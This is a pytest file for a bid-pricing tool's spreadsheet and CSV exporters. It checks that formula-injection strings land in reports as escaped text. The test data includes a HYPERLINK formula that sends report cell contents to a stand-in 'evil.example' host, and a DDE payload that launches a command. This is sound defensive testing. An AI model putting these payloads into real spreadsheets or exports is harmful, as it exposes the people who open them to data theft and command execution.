"""Formula injection (issue 18 item 8): risk names and cost descriptions reach the price report as
text, never as live formulas; CSV fields likewise."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from conftest import make_bid

from bidassist.core.celltext import FORMULA_START, csv_row
from bidassist.costs.model import CostLine, CostModel
from bidassist.pricing import price_bid
from bidassist.reports.price_xlsx import write_price_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?p="&Summary!B2, "click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def report(tmp_path):
    lines = [
        CostLine(
            code=f"={i}",
            description=p,
            quantity=Decimal(1),
            low=Decimal(90),
            likely=Decimal(100),
            high=Decimal(130),
            distribution="pert",
        )
        for i, p in enumerate(PAYLOADS)
    ]
    risks = [{"name": p, "probability": 0.2, "impact": {"dist": "fixed", "value": 50}} for p in PAYLOADS[:3]]
    bid = make_bid(
        {"competitors": {"count": 3, "price": {"dist": "uniform", "low": 800, "high": 1400}}, "risks": risks}
    )
    result = price_bid(bid, CostModel(lines=lines), iterations=2000)
    out = tmp_path / "report.xlsx"
    write_price_xlsx(result, out)
    return out


def test_no_formula_in_any_sheet(report):
    wb = openpyxl.load_workbook(report)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                    texts.append(cell.value)
    assert any("HYPERLINK" in t for t in texts)  # the text is kept exactly, as text
    with zipfile.ZipFile(report) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name), name


def test_csv_fields_are_escaped():
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row([*PAYLOADS, "plain", 12, "1-2"]))
    fields = next(csv.reader(io.StringIO(buf.getvalue())))
    assert all(f.startswith("'") for f in fields[: len(PAYLOADS)])
    assert fields[len(PAYLOADS) :] == ["plain", "12", "1-2"]
